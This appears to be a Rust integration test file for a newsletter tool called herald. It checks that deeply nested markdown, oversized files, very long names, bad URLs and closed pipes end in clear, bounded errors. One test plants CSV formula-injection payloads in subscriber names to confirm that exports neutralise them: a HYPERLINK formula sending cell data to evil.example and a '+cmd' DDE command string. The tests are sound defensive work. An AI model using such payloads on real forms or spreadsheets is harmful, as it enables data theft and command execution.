//! Every hostile input of issue #7 §3 (content and CLI half): each ends in a
//! clear error or a bounded result, never a panic, an abort or a runaway.
//! The CLI cases run the real binary and check its exit status and wording;
//! the rest use the library. SQLite always, PostgreSQL when configured.

mod support;

use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

use herald::content::{ComposeOptions, ContentError, read_text_file};
use herald::digest_file::{ItemInput, MAX_FILE_BYTES, MAX_INTRO, MAX_ITEMS};
use herald::render::{
    ClipPolicy, DigestIssue, MAX_NESTING, NewsletterInfo, Theme, clip_warning, render_issue,
};
use support::app::{Backend, TestApp};
use support::cli::{herald, herald_command, text};

crate::on_each_backend!(
    deep_markdown_is_refused_at_import_and_flattened_when_already_stored,
    long_intros_are_refused,
    oversized_files_are_refused_quickly,
    ten_thousand_items_are_refused,
    gmail_clipping_warns_by_default,
    gmail_clipping_can_refuse,
    csv_export_neutralises_formulas,
    urls_the_renderer_would_not_link_are_refused,
    a_1200_character_newsletter_name_keeps_header_lines_short,
    listings_end_quietly_on_a_closed_pipe,
);

/// Generous: the machine is shared and tests run in debug.
const FAST: Duration = Duration::from_secs(30);

fn item(headline: &str, url: &str, summary: &str) -> ItemInput {
    ItemInput {
        headline: headline.to_owned(),
        outlet: "The Outlet".to_owned(),
        url: url.to_owned(),
        published: None,
        author: None,
        author_role: None,
        summary_markdown: summary.to_owned(),
        quote: None,
        section: None,
        lang: None,
    }
}

/// One item block of the digest file format.
fn block(headline: &str, url: &str, summary: &str) -> String {
    format!(
        "+++\nheadline = {headline:?}\noutlet = \"The Outlet\"\nurl = {url:?}\n+++\n{summary}\n"
    )
}

fn header(intro: &str) -> String {
    format!("+++\ntitle = \"Hostile week\"\n+++\n{intro}\n")
}

fn write(t: &TestApp, name: &str, content: &str) -> std::path::PathBuf {
    let path = t.dir.path().join(name);
    std::fs::write(&path, content).expect("write test file");
    path
}

async fn item_count(t: &TestApp) -> i64 {
    t.count("SELECT COUNT(*) FROM items").await
}

fn assert_no_panic(stderr: &str) {
    assert!(
        !stderr.contains("panicked") && !stderr.contains("RUST_BACKTRACE"),
        "the binary panicked: {stderr}"
    );
}

async fn deep_markdown_is_refused_at_import_and_flattened_when_already_stored(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    let nl = t.app.newsletter.clone();

    // A 10 KB summary of `>`: well under the length limit, far too deep.
    let deep_summary = "> ".repeat(5_000) + "bottom";
    let path = write(
        &t,
        "deep-summary.md",
        &block("Deep", "https://example.com/deep", &deep_summary),
    );
    let started = Instant::now();
    let err = t
        .app
        .import_items_file(&nl, &path, true)
        .await
        .expect_err("a 5,000-level summary is refused");
    assert!(started.elapsed() < FAST, "took {:?}", started.elapsed());
    let msg = err.to_string();
    assert!(
        msg.contains("deep-summary.md:6:") && msg.contains("summary nests 5001 levels"),
        "names the file, the line and the problem: {msg}"
    );
    assert!(msg.contains(&format!("at most {MAX_NESTING}")), "{msg}");

    let path = write(
        &t,
        "deep-intro.md",
        &(header(&"> ".repeat(5_000)) + &block("Fine", "https://example.com/", "ok")),
    );
    let msg = t
        .app
        .import_items_file(&nl, &path, true)
        .await
        .expect_err("a deep intro is refused")
        .to_string();
    assert!(
        msg.contains("deep-intro.md:4: intro nests"),
        "names the file, the line and the intro: {msg}"
    );

    // The same through `items add`: the error names the item.
    let err = t
        .app
        .add_items(
            &nl,
            &[item(
                "Nested headline",
                "https://example.com/",
                &deep_summary,
            )],
            true,
        )
        .await
        .expect_err("refused");
    assert!(matches!(err, ContentError::InvalidItem(_)), "{err:?}");
    assert!(err.to_string().contains("\"Nested headline\""), "{err}");
    assert_eq!(item_count(&t).await, 0, "nothing of a refused file is kept");

    // Content stored before the limit existed still composes, flattened, fast.
    t.app
        .add_items(
            &nl,
            &[item("Old item", "https://example.com/old", "fine")],
            true,
        )
        .await
        .unwrap();
    t.exec(&format!(
        "UPDATE items SET summary = '{}'",
        ">".repeat(10_000) + " still here"
    ))
    .await;
    let started = Instant::now();
    let issue = t
        .app
        .compose_issue(&nl, ComposeOptions::default())
        .await
        .expect("stored deep content composes");
    assert!(started.elapsed() < FAST, "took {:?}", started.elapsed());
    assert!(issue.html.contains("still here"));
    assert!(
        issue.html.matches("<blockquote").count() <= MAX_NESTING,
        "nesting was flattened"
    );
    assert!(issue.html.len() < 200_000, "{} bytes", issue.html.len());
}

#[test]
fn rendering_200k_quote_markers_is_linear_and_bounded() {
    let issue = DigestIssue {
        number: 1,
        title: "T".into(),
        subject: "S".into(),
        preheader: "P".into(),
        intro_markdown: ">".repeat(200_000),
        date: chrono::NaiveDate::from_ymd_opt(2026, 5, 1).unwrap(),
        items: vec![item(
            "H",
            "https://example.com/",
            &("*".repeat(20_000) + "x" + &"*".repeat(20_000)),
        )],
        web_url: "https://example.com/archive/1".into(),
        lang: None,
    };
    let nl = NewsletterInfo {
        name: "N".into(),
        postal_address: "Street 1".into(),
        lang: herald::domain::LanguageTag::english(),
        base_url: "https://example.com".into(),
    };
    let started = Instant::now();
    let rendered = render_issue(&nl, &issue, &Theme::builtin()).expect("renders");
    assert!(started.elapsed() < FAST, "took {:?}", started.elapsed());
    for part in [&rendered.html, &rendered.text, &rendered.web_html] {
        assert!(part.len() < 500_000, "{} bytes", part.len());
    }
    let longest_line = rendered.text.lines().map(str::len).max().unwrap_or(0);
    assert!(longest_line < 1_000, "text line of {longest_line} bytes");
}

async fn long_intros_are_refused(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    let nl = t.app.newsletter.clone();
    t.app
        .add_items(&nl, &[item("H", "https://example.com/", "s")], true)
        .await
        .unwrap();

    for (what, intro) in [
        ("1.2 MB intro", "word ".repeat(240_000)),
        ("200k `>` intro", ">".repeat(200_000)),
    ] {
        let started = Instant::now();
        let err = t
            .app
            .compose_issue(
                &nl,
                ComposeOptions {
                    intro: Some(intro),
                    ..ComposeOptions::default()
                },
            )
            .await
            .expect_err(what);
        assert!(
            started.elapsed() < FAST,
            "{what} took {:?}",
            started.elapsed()
        );
        assert!(
            matches!(err, ContentError::InvalidIntro(_)),
            "{what}: {err:?}"
        );
        assert!(
            err.to_string()
                .contains(&format!("intro is longer than {MAX_INTRO} characters")),
            "{what}: {err}"
        );
    }
    let err = t
        .app
        .compose_issue(
            &nl,
            ComposeOptions {
                subject: Some("word ".repeat(1_000)),
                ..ComposeOptions::default()
            },
        )
        .await
        .expect_err("a 5,000-character subject is refused");
    assert!(
        err.to_string()
            .contains("subject is longer than 300 characters"),
        "{err}"
    );
    assert_eq!(t.count("SELECT COUNT(*) FROM issues").await, 0);

    // And in a digest file's header block, with its line.
    let path = write(
        &t,
        "long-intro.md",
        &(header(&"word ".repeat(240_000)) + &block("H", "https://example.com/", "s")),
    );
    let msg = t
        .app
        .import_items_file(&nl, &path, false)
        .await
        .expect_err("refused")
        .to_string();
    assert!(
        msg.contains("long-intro.md:4: intro is longer than"),
        "{msg}"
    );
}

async fn oversized_files_are_refused_quickly(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    let limit_kb = (MAX_FILE_BYTES / 1024).to_string();

    // Library: /dev/zero never ends; only one byte past the limit is read.
    let started = Instant::now();
    let err = read_text_file(Path::new("/dev/zero"))
        .await
        .expect_err("refused");
    assert!(started.elapsed() < FAST);
    assert!(matches!(err, ContentError::FileTooLarge { .. }), "{err:?}");

    // A large but otherwise valid file: many items with long summaries.
    let mut big = String::new();
    let filler = "Lorem ipsum dolor sit amet. ".repeat(600);
    while (big.len() as u64) <= MAX_FILE_BYTES + 1024 {
        big.push_str(&block("Item", "https://example.com/", &filler));
    }
    write(&t, "big.md", &big);

    for file in ["/dev/zero", "big.md"] {
        let started = Instant::now();
        let out = herald(&t, &["items", "import", file]);
        let stderr = text(&out.stderr);
        assert!(started.elapsed() < FAST, "{file}: {:?}", started.elapsed());
        assert!(!out.status.success(), "{file}: {stderr}");
        assert_no_panic(&stderr);
        assert!(
            stderr.contains(file)
                && stderr.contains(&format!("larger than {limit_kb} KB"))
                && stderr.contains("split it into smaller files"),
            "names the file, the limit and what to do: {stderr}"
        );
    }
    // The same bounded reader serves --summary-file and --intro-file.
    let out = herald(
        &t,
        &[
            "items",
            "add",
            "--headline",
            "H",
            "--outlet",
            "O",
            "--url",
            "https://example.com/",
            "--summary-file",
            "/dev/zero",
        ],
    );
    let stderr = text(&out.stderr);
    assert!(!out.status.success());
    assert_no_panic(&stderr);
    assert!(
        stderr.contains("--summary-file /dev/zero") && stderr.contains("larger than"),
        "{stderr}"
    );
    assert_eq!(item_count(&t).await, 0);
}

async fn ten_thousand_items_are_refused(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    let nl = t.app.newsletter.clone();
    let file: String = (0..10_000)
        .map(|i| block(&format!("Item {i}"), "https://example.com/", "Short."))
        .collect();
    let path = write(&t, "ten-thousand.md", &file);
    let started = Instant::now();
    let msg = t
        .app
        .import_items_file(&nl, &path, true)
        .await
        .expect_err("refused")
        .to_string();
    assert!(started.elapsed() < FAST, "took {:?}", started.elapsed());
    assert!(
        msg.contains(&format!("more than {MAX_ITEMS} items in one file"))
            && msg.contains("split the file"),
        "{msg}"
    );
    assert_eq!(item_count(&t).await, 0);

    // Items that arrive one file (or one `items add`) at a time are counted
    // again when the issue is composed.
    let batch: Vec<ItemInput> = (0..=MAX_ITEMS)
        .map(|i| item(&format!("Item {i}"), "https://example.com/", "Short."))
        .collect();
    t.app.add_items(&nl, &batch, true).await.unwrap();
    let err = t
        .app
        .compose_issue(&nl, ComposeOptions::default())
        .await
        .expect_err("refused");
    assert!(matches!(err, ContentError::TooManyItems { .. }), "{err:?}");
    assert!(
        err.to_string().contains("herald items unready"),
        "says what to do: {err}"
    );
    assert_eq!(t.count("SELECT COUNT(*) FROM issues").await, 0);
}

/// Enough long items to pass 102 KB of HTML, well under the item limit.
fn clipping_file() -> String {
    let summary = "A long summary sentence about what happened this week. ".repeat(20);
    (0..120)
        .map(|i| block(&format!("Item {i}"), "https://example.com/a", &summary))
        .collect()
}

async fn gmail_clipping_warns_by_default(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    assert_eq!(t.app.config.render.clip_limit, ClipPolicy::Warn);
    write(&t, "long.md", &clipping_file());
    let out = herald(&t, &["items", "import", "long.md", "--ready"]);
    assert!(out.status.success(), "{}", text(&out.stderr));

    let out = herald(&t, &["issue", "compose"]);
    let stderr = text(&out.stderr);
    assert!(out.status.success(), "warn still composes: {stderr}");
    assert!(
        stderr.contains("warning: the HTML is")
            && stderr.contains("Gmail clips messages above 102 KB"),
        "compose shows the warning: {stderr}"
    );
    assert!(
        !stderr.contains('\u{1b}'),
        "no ANSI colour codes when stderr is not a terminal: {stderr:?}"
    );
    let out = herald(&t, &["issue", "preview", "1", "--text", "preview.txt"]);
    let stderr = text(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(
        stderr.contains("Gmail clips"),
        "preview shows it too: {stderr}"
    );

    let nl = t.app.newsletter.clone();
    let issue = t.app.find_issue(&nl, "1").await.unwrap();
    assert!(clip_warning(issue.html.len()).is_some());
}

async fn gmail_clipping_can_refuse(backend: Backend) {
    let t = TestApp::spawn_with(backend, |c| c.render.clip_limit = ClipPolicy::Refuse).await;
    let nl = t.app.newsletter.clone();
    let path = write(&t, "long.md", &clipping_file());
    t.app.import_items_file(&nl, &path, true).await.unwrap();
    let err = t
        .app
        .compose_issue(&nl, ComposeOptions::default())
        .await
        .expect_err("refused");
    assert!(matches!(err, ContentError::Clipped(_)), "{err:?}");
    let msg = err.to_string();
    assert!(
        msg.contains("Gmail clips") && msg.contains("render.clip_limit"),
        "{msg}"
    );
    assert_eq!(t.count("SELECT COUNT(*) FROM issues").await, 0);
}

async fn csv_export_neutralises_formulas(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    let nl = t.app.newsletter.clone();
    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A2&B2,"Open")"#;
    // Anyone can plant a formula through the public form's name field.
    let page = t
        .post_subscribe_form("planted@example.com", Some(hyperlink))
        .await;
    assert!(page.status < 400, "{} {}", page.status, page.body);
    // The form answers first; the subscriber exists once its mail is out.
    t.confirmation_mail("planted@example.com").await;
    let names = [
        ("cmd@example.com", "+cmd|' /C calc'!A0"),
        ("sum@example.com", "@SUM(A1:A9)"),
        ("minus@example.com", "-1+1"),
        ("tab@example.com", "placeholder"),
        ("cr@example.com", "placeholder"),
        ("plain@example.com", "Ann Example"),
    ];
    for (email, name) in names {
        t.app
            .add_subscriber(&TestApp::email(email), Some(name), &nl, true)
            .await
            .unwrap();
    }
    // The form refuses control characters; a row from elsewhere may have them.
    t.exec("UPDATE subscribers SET name = '\ttab' WHERE email = 'tab@example.com'")
        .await;
    t.exec("UPDATE subscribers SET name = '\rcr' WHERE email = 'cr@example.com'")
        .await;

    let expected = [
        ("planted@example.com", hyperlink.to_owned()),
        ("cmd@example.com", "+cmd|' /C calc'!A0".to_owned()),
        ("sum@example.com", "@SUM(A1:A9)".to_owned()),
        ("minus@example.com", "-1+1".to_owned()),
        ("tab@example.com", "\ttab".to_owned()),
        ("cr@example.com", "\rcr".to_owned()),
    ];
    let names_by_email = |csv_text: &str| -> Vec<(String, String)> {
        let mut r = csv::Reader::from_reader(csv_text.as_bytes());
        r.records()
            .map(|rec| {
                let rec = rec.expect("valid CSV");
                (rec[0].to_owned(), rec[1].to_owned())
            })
            .collect()
    };

    let out = herald(&t, &["subscribers", "export", "-"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        !t.dir.path().join("-").exists(),
        "`export -` writes to stdout, not to a file named -"
    );
    let rows = names_by_email(&text(&out.stdout));
    assert_eq!(rows.len(), 7, "{rows:?}");
    for (email, raw) in &expected {
        let (_, name) = rows.iter().find(|(e, _)| e == email).expect(email);
        assert_eq!(*name, format!("'{raw}"), "{email}");
    }
    let (_, plain) = rows.iter().find(|(e, _)| e == "plain@example.com").unwrap();
    assert_eq!(plain, "Ann Example", "ordinary cells are unchanged");

    // A file gets the same treatment.
    let out = herald(&t, &["subscribers", "export", "all.csv"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let file = std::fs::read_to_string(t.dir.path().join("all.csv")).unwrap();
    assert_eq!(names_by_email(&file), rows);

    // --raw: exactly as stored, for programs.
    let out = herald(&t, &["subscribers", "export", "-", "--raw"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let raw_rows = names_by_email(&text(&out.stdout));
    for (email, raw) in &expected {
        let (_, name) = raw_rows.iter().find(|(e, _)| e == email).expect(email);
        assert_eq!(name, raw, "{email}");
    }
}

async fn urls_the_renderer_would_not_link_are_refused(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    let nl = t.app.newsletter.clone();
    for (url, shown) in [
        (r"https://example.com/a\b", r"'\\'"),
        (r#"https://example.com/say"hi""#, r#"'"'"#),
        ("https://example.com/‹quote›", "'‹'"),
    ] {
        let path = write(&t, "url.md", &block("Bad link", url, "s"));
        let msg = t
            .app
            .import_items_file(&nl, &path, true)
            .await
            .expect_err(url)
            .to_string();
        assert!(
            msg.contains("url.md:4:") && msg.contains(shown) && msg.contains("percent-encode"),
            "names the line, the character and the fix: {msg}"
        );
        let msg = t
            .app
            .add_items(&nl, &[item("Bad link", url, "s")], true)
            .await
            .expect_err(url)
            .to_string();
        assert!(
            msg.contains("\"Bad link\"") && msg.contains(shown),
            "names the item and the character: {msg}"
        );
    }
    assert_eq!(item_count(&t).await, 0);

    // What imports is what renders as a link.
    let url = "https://example.com/a%5Cb?q=%E2%80%B9";
    t.app
        .add_items(&nl, &[item("Good link", url, "s")], true)
        .await
        .unwrap();
    let issue = t
        .app
        .compose_issue(&nl, ComposeOptions::default())
        .await
        .unwrap();
    assert!(issue.html.contains(&format!("href=\"{url}\"")));
}

async fn a_1200_character_newsletter_name_keeps_header_lines_short(backend: Backend) {
    let name = "The Very Long Newsletter Name ".repeat(40);
    assert!(name.len() >= 1_200);
    let t = TestApp::spawn_with(backend, |c| c.newsletter.name = name.clone()).await;
    let nl = t.app.newsletter.clone();
    t.app
        .add_items(&nl, &[item("H", "https://example.com/", "s")], true)
        .await
        .unwrap();
    // The default subject holds the newsletter's name too.
    let issue = t
        .app
        .compose_issue(&nl, ComposeOptions::default())
        .await
        .unwrap();
    assert!(issue.subject.len() > 1_200);
    let message = t
        .app
        .sample_message(&nl, &issue, "reader@example.com", true)
        .unwrap();
    let message = String::from_utf8(message).unwrap();
    let (headers, _) = message.split_once("\r\n\r\n").unwrap();
    for line in headers.split("\r\n") {
        assert!(line.len() <= 998, "header line of {} bytes", line.len());
    }
    let mut list_id = Vec::new();
    let mut in_list_id = false;
    for line in headers.split("\r\n") {
        if line.starts_with("List-Id:") {
            in_list_id = true;
        } else if !line.starts_with(' ') {
            in_list_id = false;
        }
        if in_list_id {
            list_id.push(line);
        }
    }
    assert!(!list_id.is_empty(), "{headers}");
    for line in &list_id {
        assert!(
            line.len() <= 78,
            "List-Id line of {} bytes: {line}",
            line.len()
        );
    }
    let unfolded = list_id.join("");
    assert!(
        unfolded.starts_with("List-Id: The Very Long Newsletter Name"),
        "{unfolded}"
    );
    assert!(
        unfolded.len() < 200,
        "the description is bounded: {unfolded}"
    );
    assert!(
        unfolded.ends_with(&format!("<{}>", nl.list_id)),
        "{unfolded}"
    );
}

async fn listings_end_quietly_on_a_closed_pipe(backend: Backend) {
    let t = TestApp::spawn(backend).await;
    let nl = t.app.newsletter.clone();
    let csv: String = std::iter::once("email,name\n".to_owned())
        .chain((0..300).map(|i| format!("reader{i}@example.com,Reader {i}\n")))
        .collect();
    write(&t, "people.csv", &csv);
    let out = herald(&t, &["subscribers", "import", "people.csv", "--confirmed"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    t.app
        .add_items(&nl, &[item("H", "https://example.com/", "s")], true)
        .await
        .unwrap();
    t.app
        .compose_issue(&nl, ComposeOptions::default())
        .await
        .unwrap();

    for args in [
        &["subscribers", "list"][..],
        &["subscribers", "list", "--json"],
        &["subscribers", "export"],
        &["subscribers", "export", "-"],
        &["items", "list", "--state", "published"],
        &["issue", "list"],
        &["issue", "preview", "1"],
        &["issue", "show", "1"],
        &["deliveries", "1"],
    ] {
        let mut child = herald_command(&t, args)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn herald");
        // `| head -0`: the reader is gone before the first line is written.
        drop(child.stdout.take());
        let out = child.wait_with_output().expect("wait");
        let stderr = text(&out.stderr);
        assert_no_panic(&stderr);
        assert!(
            out.status.success() || out.status.code() == Some(141),
            "{args:?}: {:?} {stderr}",
            out.status
        );
        assert!(!stderr.contains("Broken pipe"), "{args:?}: {stderr}");
    }

    // And the ordinary case still prints everything.
    let out = herald(&t, &["subscribers", "list"]);
    assert!(out.status.success());
    assert_eq!(text(&out.stdout).lines().count(), 300);
    let mut child = herald_command(&t, &["subscribers", "list"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // `| head -1`: read one line, then close.
    let mut stdout = child.stdout.take().unwrap();
    let mut first = [0u8; 64];
    let n = std::io::Read::read(&mut stdout, &mut first).unwrap();
    assert!(n > 0);
    drop(stdout);
    let out = child.wait_with_output().unwrap();
    assert_no_panic(&text(&out.stderr));
    assert!(out.status.success() || out.status.code() == Some(141));
}
